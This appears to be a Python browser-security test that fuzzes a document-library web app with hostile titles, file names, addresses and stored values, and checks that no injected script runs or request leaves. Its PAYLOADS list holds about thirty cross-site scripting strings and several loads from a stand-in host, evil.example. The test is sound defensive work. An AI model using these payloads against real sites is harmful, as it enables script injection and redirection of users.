"""Hostile documents, names, addresses and stores in a real browser: nothing of them runs or leads elsewhere.

With the page's content policy, and without it: the page is to be safe by itself.
"""

from __future__ import annotations

import json
import random
from typing import TYPE_CHECKING
from urllib.parse import quote

from bench.browser import chromium

from attack.campaign import Attempt, Campaign, Outcome
from attack.damage import PLAIN
from attack.load import serving
from wherefrom import Library
from wherefrom.types import Document

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Dialog, Page

VIEWS = 12  # of one attempt, every one with all of its documents and another address
_SETTLE = 400  # milliseconds after which what was going to run has run
_TIMEOUT = 30_000

HACK = "window.hacked=1"
PAYLOADS = (
    "<script>{h}</script>",
    "<img src=x onerror='{h}'>",
    '"><svg onload={h}>',
    "<iframe srcdoc='<script>parent.hacked=1</script>'></iframe>",
    "<a href='javascript:{h}'>key</a>",
    "javascript:{h}//",
    "</title></textarea></style></script><script>{h}</script>",
    "<style>@import '//evil.example/a.css';*{{display:none}}</style>",
    "<base href='//evil.example/'>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<link rel=stylesheet href=//evil.example/a.css>",
    "<object data='//evil.example/x'></object><embed src='//evil.example/x'>",
    "<form action=//evil.example/><button>Ask</button></form>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={h}&gt;'>",
    "<svg><animate onbegin={h} attributeName=x dur=1s>",
    "<details open ontoggle={h}>",
    "<input autofocus onfocus={h}>",
    "<template><script>{h}</script></template>",
    "{{{{constructor.constructor('{h}')()}}}}${{{h}}}",
    "' onmouseover='{h}' autofocus onfocus='{h}",
    "`-{h}-`",
    "\\u003cscript\\u003e{h}\\u003c/script\\u003e",
    "&lt;script&gt;{h}&lt;/script&gt;",
    "<!--><script>{h}</script>",
    "]]><script>{h}</script>",
    "__proto__",
    "constructor",
    "\u202e<script>{h}</script>\u202c\u2066",
    "data:text/html,<script>{h}</script>",
    "%3Cscript%3E{h}%3C/script%3E",
    "<scr\0ipt>{h}</scr\0ipt>",
    "\ufeff<ſcript>{h}</ſcript>",
)
_LOOK = """() => ({
  hacked: window.hacked ?? null,
  violations: window.violations ?? [],
  strange: [...document.querySelectorAll(
    "body :is(script, iframe, object, embed, base, meta, link, style, form[action], math, template:not(#icon)),"
    + "[srcdoc]"
  )].map((each) => each.outerHTML.slice(0, 200)),
  handlers: [...document.querySelectorAll("*")].flatMap((each) =>
    each.getAttributeNames().filter((name) => /^on/.test(name)).map((name) => `${each.tagName} ${name}`)),
  links: [...document.querySelectorAll("a[href], img[src], [action], [formaction]")]
    .map((each) => each.getAttribute("href") ?? each.getAttribute("src") ?? "action")
    .filter((link) => !/^(#|openapi\\.json|icon\\.svg$|blob:|data:image\\/|\\/?originals\\/)/.test(link)),
  place: location.origin,
})"""


def attempt(given: Attempt) -> Outcome:
    outcome = Outcome()
    library = given.folder / "library"
    documents = [_document(given.chance, number) for number in range(6)]
    with Library(library) as opened:
        opened.put(documents)
    plain = [part for each in PLAIN for part in ("--set", each)]
    with serving(library, *plain) as (address, _), chromium() as browser:
        for number in range(given.share(VIEWS)):
            _seen(browser, address, documents, given.chance, number % 2 == 0, outcome)
    return outcome


def _hostile(chance: random.Random) -> str:
    return "".join(chance.choice(PAYLOADS).format(h=HACK) for _ in range(chance.randrange(1, 4)))


def _document(chance: random.Random, number: int) -> Document:
    text = (
        f"The hostile key {number} of the castle is {_hostile(chance)} under the mat.\n\n"
        f"{_hostile(chance)}\n\nIvo waters {_hostile(chance)} on Mondays in 1944."
    )
    # A document's text may hold neither, and nothing can be sent that does.
    return Document(f"{number} {_hostile(chance)}.txt".replace("\0", ""), text.replace("\0", ""), _hostile(chance))


def _seen(
    browser: Browser, address: str, documents: list[Document], chance: random.Random, policy: bool, outcome: Outcome
) -> None:
    """One visit to every view, in a browser of its own."""
    context = browser.new_context(bypass_csp=not policy)
    context.set_default_timeout(_TIMEOUT)
    page = context.new_page()
    seen = _watched(page, address)
    where = "with the policy" if policy else "without the policy"
    try:
        if chance.random() < 0.5:
            store = {f"wherefrom.{name}": _stored(chance) for name in ("history", "theme", "key", "style", "thread")}
            page.goto(f"{address}/health")
            page.evaluate(
                "store => Object.entries(store).forEach(([name, value]) => localStorage.setItem(name, value))", store
            )
        document = chance.choice(documents)
        places = [
            "#/",
            "#/documents",
            "#/history",
            f"#/document/{quote(document.id, safe='')}?at=0-40,50-60",
            f"#/document/{_hostile(chance)}",
            f"#/{_hostile(chance)}",
            f"#/ask?q={quote(_hostile(chance), safe='')}&style={_hostile(chance)}",
            f"#/ask?q={quote(f'Where is the hostile key {document.id[:1]} of the castle?')}&style=passage",
        ]
        for place in places:
            page.goto(f"{address}/{place}")
            page.wait_for_timeout(_SETTLE)
            if place.startswith("#/ask?q=Where"):
                page.wait_for_selector(".answer .word, .answer", state="attached")
                for word in page.locator(".answer .word").all()[:4]:
                    word.focus()
                page.wait_for_timeout(_SETTLE)
            outcome.tried += 1
            outcome.count(f"views {where}")
            _judged(page, seen, f"{where}, {place[:300]}", address, outcome)
        _sent(page, address, chance)
        outcome.tried += 1
        _judged(page, seen, f"{where}, after sending a file", address, outcome)
    finally:
        context.close()


def _stored(chance: random.Random) -> str:
    value: object = chance.choice(
        (_hostile(chance), [_hostile(chance)], [{"question": _hostile(chance), "style": _hostile(chance)}], None, {})
    )
    return json.dumps(value) if chance.random() < 0.8 else _hostile(chance)


def _sent(page: Page, address: str, chance: random.Random) -> None:
    """A file with a hostile name, by the page's own button."""
    page.goto(f"{address}/#/documents")
    name = _hostile(chance).replace("/", "").replace("\0", "")[:80] + ".md"
    data = _hostile(chance).encode("utf-8", "replace")
    page.locator("input[type=file]").first.set_input_files({"name": name, "mimeType": "text/html", "buffer": data})
    page.wait_for_timeout(3 * _SETTLE)


def _watched(page: Page, address: str) -> list[str]:
    """What the page should never do, noted as it happens."""
    seen: list[str] = []

    def dialog_opened(dialog: Dialog) -> None:
        seen.append(f"a dialog: {dialog.message}")
        dialog.dismiss()

    page.on("dialog", dialog_opened)
    page.on(
        "request", lambda request: None if _is_own(request.url, address) else seen.append(f"a request: {request.url}")
    )
    page.on("popup", lambda _: seen.append("a popup"))
    page.on("pageerror", lambda error: seen.append(f"an error of the page: {error}"))
    page.add_init_script(
        "window.violations = [];"
        "addEventListener('securitypolicyviolation', event => violations.push(event.violatedDirective));"
    )
    return seen


def _is_own(url: str, address: str) -> bool:
    return url.startswith((f"{address}/", "data:", "blob:", "about:"))


def _judged(page: Page, seen: list[str], what: str, address: str, outcome: Outcome) -> None:
    state = page.evaluate(_LOOK)
    if state["hacked"] is not None:
        outcome.break_("a script of a document ran", what)
    for name in ("violations", "strange", "handlers", "links"):
        if state[name]:
            outcome.break_(f"{name} in the page", f"{what}: {state[name][:3]}")
    if state["place"] != address:
        outcome.break_("the page was left", f"{what}: {state['place']}")
    for each in seen:
        outcome.break_(each.partition(":")[0], f"{what}: {each}")
    seen.clear()


PAGES = Campaign(
    name="pages",
    unit="views",
    over="hostile titles, texts, ids, file names, addresses and browser stores in every view of the page, in Chromium, "
    "with its content policy and without",
    attempts=20,
    seconds=900,
    attempt=attempt,
)
